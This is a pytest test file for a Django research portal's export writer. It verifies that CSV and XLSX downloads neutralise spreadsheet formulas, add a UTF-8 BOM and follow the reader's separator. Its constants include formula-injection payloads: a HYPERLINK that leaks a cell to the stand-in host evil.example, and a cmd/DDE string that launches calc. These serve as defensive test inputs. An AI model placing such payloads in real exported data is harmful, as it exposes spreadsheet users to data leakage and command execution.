"""Every table people download goes through one writer (eds_portal.exports): formulas typed by
anyone come out neutralised, CSV is UTF-8 with a BOM and the reader's separator, and staff get
the same rows as XLSX."""

from __future__ import annotations

import copy
import io
import re
from datetime import date, timedelta
from pathlib import Path

import openpyxl
import pytest
from django.utils import timezone

from access.consent.actions import record_consent
from access.formalities.actions import publish_project
from eds_portal.audit import record_event
from eds_portal.exports import csv_lines, neutralise, write_xlsx
from projects.models import Project
from tests.access.transparency_helpers import approved_project, record_mr004
from tests.conftest import login
from tests.csv_exports import export_text, read_csv
from tests.projects import helpers as project_helpers
from tests.projects.helpers import VALID_SECTIONS
from warehouse.keys import person_key
from warehouse.models import Person

pytestmark = pytest.mark.django_db(databases=["default", "warehouse", "vault"])

ROOT = Path(__file__).resolve().parents[2]
# What a researcher (or anyone filling a form) may type that a spreadsheet would run.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Détails")'
COMMAND = "+cmd|' /C calc'!A0"
ARITHMETIC = "-1+1"
FUNCTION = "@SUM(A1:A9)"
FORMULAS = [HYPERLINK, COMMAND, ARITHMETIC, FUNCTION]
IDENTITY = {
    "birth_name": "Martin",
    "first_names": "Léa",
    "birth_date": date(2015, 3, 2),
    "sex": "F",
}


def _cells(rows: list[list]) -> list[str]:
    return [str(cell) for row in rows for cell in row]


def assert_neutralised(rows: list[list], typed: list[str]) -> None:
    cells = _cells(rows)
    for formula in typed:
        assert "'" + formula in cells, formula
    for cell in cells:
        assert cell not in FORMULAS, cell
        assert cell[:1] not in {"=", "+", "@", "\t", "\r"}, cell


# --- The writer ------------------------------------------------------------------------------


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_gets_an_apostrophe(formula):
    assert neutralise(formula) == "'" + formula


@pytest.mark.parametrize(
    "value", ["Bronchiolites", "", "2026-03-09", "l'=égalité", "a-b", "Dr Investigatrice"]
)
def test_ordinary_text_is_left_alone(value):
    assert neutralise(value) == value


def test_numbers_dates_and_nothing_keep_their_type():
    assert neutralise(-3) == -3
    assert neutralise(2.5) == 2.5
    assert neutralise(None) == ""
    assert neutralise(date(2026, 3, 9)) == "2026-03-09"
    assert neutralise("\uff1dSUM(A1)") == "'\uff1dSUM(A1)"  # full-width "=", folded by Excel


def test_csv_has_a_bom_and_the_separator_asked_for():
    rows = [["title", "n"], [HYPERLINK, 3]]
    text = "".join(csv_lines(rows, separator=";"))
    assert text.startswith("\ufefftitle;n\r\n")
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Détails"")";3' in text
    assert "".join(csv_lines(rows, separator=",")).startswith("\ufefftitle,n\r\n")


def test_xlsx_holds_text_never_a_formula(tmp_path):
    target = tmp_path / "t.xlsx"
    write_xlsx([["title", "n"], [HYPERLINK, 3], ["bell\x07", None]], target)
    sheet = openpyxl.load_workbook(target).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[:2] == [["title", "n"], ["'" + HYPERLINK, 3]]
    assert rows[2][0] == "bell"  # a control character Excel refuses is dropped
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_every_export_goes_through_the_one_writer():
    """No view writes CSV by itself (the datasets delivered to researchers are data files)."""
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|text/csv")
    # The datasets' manifest, and a researcher's released results table (kept as they wrote it,
    # less the companion columns the checks read: access/outputs/checks.py); files.py only names
    # the CSV type of an upload.
    allowed = {
        "eds_portal/exports.py",
        "warehouse/export/manifest.py",
        "access/outputs/checks.py",
        "access/outputs/files.py",
    }
    offenders = []
    for app in ("eds_portal", "access", "projects", "warehouse"):
        for path in (ROOT / app).rglob("*.py"):
            relative = str(path.relative_to(ROOT))
            if relative not in allowed and pattern.search(path.read_text(encoding="utf-8")):
                offenders.append(relative)
    assert offenders == []


# --- Every export -----------------------------------------------------------------------------


@pytest.fixture
def typed(researcher, secretariat, chair, dpo, monkeypatch):
    """A published project and a consent whose text fields, typed in the forms, hold formulas."""
    sections = copy.deepcopy(VALID_SECTIONS)
    sections["identification"]["lay_title"] = HYPERLINK
    sections["identification"]["summary"] = COMMAND
    sections["actors"]["controller_name"] = FUNCTION
    monkeypatch.setattr(project_helpers, "VALID_SECTIONS", sections)
    project = approved_project(researcher, secretariat, chair, title=HYPERLINK)
    record_mr004(project, secretariat)
    publish_project(project=project, by=secretariat)
    Project.objects.filter(pk=project.pk).update(requires_consent=True)
    key = person_key(**IDENTITY)
    Person.objects.using("warehouse").create(
        person_id=1, gender_concept_id=8532, year_of_birth=2015, person_source_value=key
    )
    project.refresh_from_db()
    record_consent(
        project=project,
        by=dpo,
        person_key=key,
        purposes="Participation.",
        notice_version=ARITHMETIC,
        given_at=timezone.now() - timedelta(days=2),
        method="paper",
        collector=HYPERLINK,
        evidence=FUNCTION,
    )
    record_event(action="test.typed", target_type="test.thing", target_id=COMMAND)
    return project


def _staff_exports(project):
    return [
        ("dpo", "/audit/export.csv", {"target_type": "test.thing"}, [COMMAND]),
        ("secretariat", "/commission/pipeline/export.csv", {}, [HYPERLINK]),
        ("dpo", f"/consent/projects/{project.pk}/export.csv", {}, [HYPERLINK, ARITHMETIC]),
        ("dpo", "/dpo/record-of-processing.csv", {}, [HYPERLINK]),
    ]


def test_every_staff_export_neutralises_formulas_as_csv_and_xlsx(client, request, typed):
    for persona, url, params, formulas in _staff_exports(typed):
        login(client, request.getfixturevalue(persona))
        response = client.get(url, params)
        assert response.status_code == 200, url
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        rows = read_csv(response)  # BOM and ";" (French, the portal's language)
        assert_neutralised(rows, formulas)
        workbook = client.get(url, {**params, "format": "xlsx"})
        assert workbook.status_code == 200, url
        assert workbook["Content-Type"].startswith("application/vnd.openxmlformats")
        assert workbook["Content-Disposition"].endswith('.xlsx"')
        sheet = openpyxl.load_workbook(io.BytesIO(b"".join(workbook.streaming_content))).active
        cells = [[("" if c.value is None else str(c.value)) for c in row] for row in sheet.rows]
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row), url
        # The same rows as the CSV (the audit export of the XLSX is itself an event: compare
        # the rows that the CSV had).
        assert cells[: len(rows)] == rows, url


def test_the_public_transparency_export_neutralises_formulas(client, typed):
    response = client.get("/transparency/projects.csv")
    assert response.status_code == 200
    rows = read_csv(response)
    assert rows[0][:2] == ["reference", "title"]
    assert_neutralised(rows, [HYPERLINK, COMMAND, FUNCTION])


def test_the_opposition_register_export_goes_through_the_writer(client, dpo, monkeypatch):
    from access.opposition import exports

    row = {
        "number": 1,
        "recorded_at": timezone.now(),
        "effect": ARITHMETIC,
        "receipt_number": FUNCTION,
        "channel": "online",
        "requester_role": "self",
        "scope": "all",
        "projects": [],
        "person_export_id": COMMAND,
        "ends_number": None,
        "recorded_by": HYPERLINK,
    }
    monkeypatch.setattr(exports, "register_rows", lambda **kwargs: [row])
    login(client, dpo)
    rows = read_csv(client.get("/registers/oppositions/register.csv"))
    assert_neutralised(rows, FORMULAS)
    workbook = client.get("/registers/oppositions/register.csv", {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(workbook.streaming_content))).active
    assert [[("" if c.value is None else str(c.value)) for c in r] for r in sheet.rows] == rows


def test_the_separator_follows_the_language_or_the_choice(client, typed):
    french = export_text(client.get("/transparency/projects.csv"))
    assert french.startswith("reference;title;")
    english = export_text(client.get("/transparency/projects.csv", HTTP_ACCEPT_LANGUAGE="en"))
    assert english.startswith("reference,title,")
    chosen = export_text(client.get("/transparency/projects.csv", {"separator": "comma"}))
    assert chosen.startswith("reference,title,")
    chosen = export_text(
        client.get(
            "/transparency/projects.csv", {"separator": "semicolon"}, HTTP_ACCEPT_LANGUAGE="en"
        )
    )
    assert chosen.startswith("reference;title;")


def test_accents_survive_for_excel(client, typed):
    raw = client.get("/transparency/projects.csv").content
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    assert "Détails".encode() in raw
